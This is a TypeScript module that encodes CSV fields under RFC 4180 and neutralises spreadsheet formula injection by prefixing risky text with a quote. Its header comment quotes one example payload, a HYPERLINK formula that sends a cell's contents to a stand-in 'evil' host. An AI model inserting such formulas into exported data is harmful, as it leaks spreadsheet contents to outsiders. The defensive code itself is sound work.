/**
 * CSV cell encoding (RFC 4180): a field is quoted only when it holds `"`, `,`, CR or LF,
 * and inner quotes are doubled. Dates are printed by the column's formatter (date-text.ts).
 *
 * Text that a spreadsheet would run as a formula is neutralised by default (OWASP "CSV Injection"): a field starting
 * with `=`, `+`, `-`, `@`, TAB or CR gets a leading `'` and is quoted, so Excel and LibreOffice show the text and
 * compute nothing (`=HYPERLINK("http://evil/?x="&A1,"click")` from a database must not become a live link). Numbers
 * written as numbers are not text and are never touched: a negative amount stays `-12.50`. Machine consumers that
 * need the bytes as stored opt out (`raw`).
 */
import type { CellValue, NumberFormat } from '../xlsx/types.js';
import { SheetpipeError } from '../errors.js';
import type { DateFormatter, DateStyle } from './date-text.js';

const NEEDS_QUOTES = /[",\r\n]/;

/** The date style of a column, decided once from its number format. */
export function dateStyleFor(format: NumberFormat | undefined): DateStyle {
  return format === 'date' || format === 'time' ? format : 'datetime';
}

export type TextEncoder = (text: string) => string;

/** RFC 4180 quoting only: the text as stored. */
export const encodeText: TextEncoder = (text) => (NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

/** `=`, `+`, `-`, `@`, TAB, CR as the first character: what spreadsheets start a formula (or a DDE call) with. */
function startsFormula(text: string): boolean {
  const first = text.charCodeAt(0);
  return first === 61 || first === 43 || first === 45 || first === 64 || first === 9 || first === 13;
}

/** Text safe to open in a spreadsheet: formula-like text is prefixed with `'` and quoted, the rest as encodeText. */
export const encodeSafeText: TextEncoder = (text) => (startsFormula(text) ? `"'${text.replaceAll('"', '""')}"` : encodeText(text));

/**
 * One field; text goes through `text` (encodeSafeText or encodeText). `row` and `column` (1-based) only name the
 * place in an error. A Formula, which only code can create (never a database value), is written as its cached result
 * when it has one, else as its formula text with a leading `=`.
 */
export function encodeCell(value: CellValue, formatDate: DateFormatter, row: number, column: number, text: TextEncoder = encodeSafeText): string {
  switch (typeof value) {
    case 'string':
      return text(value);
    case 'number':
      if (!Number.isFinite(value)) throw new SheetpipeError('SHEETPIPE_ERR_PIPELINE_CSV_VALUE', [row, column, String(value)]);
      return String(value);
    case 'boolean':
      return value ? 'true' : 'false';
    case 'bigint':
      return value.toString();
    case 'undefined':
      return '';
    case 'object': {
      if (value === null) return '';
      if (value instanceof Date) {
        const text = formatDate(value.getTime());
        if (text === undefined) throw new SheetpipeError('SHEETPIPE_ERR_PIPELINE_CSV_VALUE', [row, column, 'an invalid Date']);
        return text;
      }
      const result = value.result;
      return result === undefined ? encodeText(`=${value.formula}`) : encodeCell(result, formatDate, row, column, text);
    }
    default:
      throw new SheetpipeError('SHEETPIPE_ERR_PIPELINE_CSV_VALUE', [row, column, `a value of type ${typeof value}`]);
  }
}
